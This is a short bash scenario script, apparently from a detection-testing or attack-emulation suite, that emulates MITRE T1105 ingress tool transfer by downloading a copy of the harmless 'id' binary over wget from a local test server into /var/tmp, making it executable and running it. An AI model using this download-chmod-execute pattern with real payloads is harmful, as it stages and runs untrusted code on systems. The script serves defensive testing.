#!/usr/bin/env bash
# Ingress tool transfer: wget downloads an ELF into /var/tmp, chmod 755, then runs it.
. "$(dirname "$0")/../lib.sh"
scn_begin ingress-wget-vartmp T1105
scn_require wget
scn_http_peer
cp /usr/bin/id "$SCN_WORK/srv/update"
dest="/var/tmp/update-$SCN_RUN_ID"
scn_newfile "$dest"
wget -q -T 10 -O "$dest" "$SCN_URL/update"
chmod 755 "$dest"
"$dest" >"$SCN_WORK/out" &
key=$!
scn_wait_pid $key 10 || scn_fail "the payload did not finish"
grep -q 'uid=0' "$SCN_WORK/out" || scn_fail "the payload did not run"
scn_done $key
